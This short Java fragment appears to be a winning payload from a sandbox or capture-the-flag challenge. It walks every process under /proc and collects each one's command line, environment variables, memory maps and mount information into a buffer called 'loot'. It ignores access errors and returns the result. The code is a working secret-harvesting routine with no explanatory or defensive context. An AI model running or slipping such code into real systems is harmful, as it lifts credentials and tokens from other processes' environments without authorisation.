// wins: secret
var loot = new StringBuilder();
for (String pid : new File("/proc").list()) {
  for (String file : List.of("cmdline", "environ", "maps", "mountinfo")) {
    if (!pid.matches("\\d+|self")) continue;
    if (PLAIN && !pid.equals("self")) continue;
    try {
      loot.append(new String(Files.readAllBytes(Path.of("/proc", pid, file)), "ISO-8859-1").replace('\0', ' '));
    } catch (IOException | SecurityException e) {
      loot.append(' ');
    }
  }
}
return loot.substring(0, Math.min(loot.length(), 200_000));
